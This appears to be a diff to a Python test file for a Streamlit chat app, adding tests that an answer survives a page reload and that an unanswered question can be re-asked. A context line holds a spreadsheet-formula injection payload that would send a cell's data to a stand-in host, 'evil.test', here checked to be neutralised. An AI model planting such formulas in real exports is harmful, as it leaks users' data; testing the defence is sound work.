@@ -473,3 +473,75 @@ def test_a_question_written_as_a_spreadsheet_formula_stays_text_in_the_review_ta
     review = _page("2_Review_queue.py")
     cells = list(review.dataframe[0].value["question"])
     assert cells == ['\'=HYPERLINK("http://evil.test/?leak="&B2,"温度参数T有什么作用？")']
+
+
+def _stored_chats(tmp_path):
+    import sqlite3
+
+    with sqlite3.connect(tmp_path / "data" / "conversations.sqlite") as db:
+        return db.execute("SELECT id, messages FROM conversations").fetchall()
+
+
+def test_a_reload_during_an_answer_follows_it_and_the_answer_is_kept(app_env, tmp_path, monkeypatch):
+    """A reload stopped the page's run and the answer with it (a review's case). The answer is now
+    computed in a job of its own: the stopped page's answer is still stored, and the reloaded page
+    (the chat's link) follows it as it finishes."""
+    import json
+    import threading
+    import time
+
+    import streamlit as st
+
+    from agent.core import Agent
+    from agent.events import Done, Status
+
+    finish = threading.Event()
+    answer = Agent.stream
+
+    def slow(self, question, history=(), options=None):  # the answer, held back until `finish`
+        for event in answer(self, question, history, options):
+            while isinstance(event, Done) and not finish.is_set():
+                yield Status("still writing…")
+                time.sleep(0.2)
+            yield event
+
+    monkeypatch.setattr(Agent, "stream", slow)
+    st.cache_resource.clear()
+    first = _app()
+    first.chat_input[0].set_value("温度参数T有什么作用？")
+    with pytest.raises(RuntimeError, match="timed out"):
+        first.run(timeout=4)  # the page goes away mid-answer, as on a reload
+    [(cid, raw)] = _stored_chats(tmp_path)
+    assert [(m["role"], m["pending"]) for m in json.loads(raw)] == [("user", True)]  # the question is kept at once
+
+    threading.Timer(2.0, finish.set).start()
+    again = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
+    again.query_params["c"] = cid
+    again.run()
+    assert not again.exception
+    assert len(again.chat_message) == 2 and "温度参数" in again.chat_message[0].markdown[0].value
+    assert "温度" in " ".join(m.value for m in again.chat_message[1].markdown)
+    assert not any("Not answered" in c.value for c in again.caption)
+    [(same, raw)] = _stored_chats(tmp_path)
+    assert same == cid and [(m["role"], m["pending"]) for m in json.loads(raw)] == [("user", False), ("assistant", False)]
+
+
+def test_a_question_the_app_stopped_answering_can_be_asked_again(app_env, tmp_path):
+    import streamlit as st
+
+    from ui.conversations import ChatMessage, ConversationStore, new_conversation_id
+
+    st.cache_resource.clear()  # a new process: no job is answering it
+    cid = new_conversation_id()
+    ConversationStore(tmp_path / "data" / "conversations.sqlite").save(
+        cid, [ChatMessage(role="user", content="温度参数T有什么作用？", id="q1", pending=True)])
+    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
+    at.query_params["c"] = cid
+    at.run()
+    assert not at.exception
+    assert any("Not answered" in c.value for c in at.caption)
+    at.button(key="ask_again").click().run()
+    assert not at.exception and not any("Not answered" in c.value for c in at.caption)
+    assert [m.role for m in at.session_state["messages"]] == ["user", "assistant"]
+    assert "温度" in " ".join(m.value for m in at.chat_message[1].markdown)
+    assert _cid(at) != cid  # answered in a chat of its own; the link's chat stays as it was
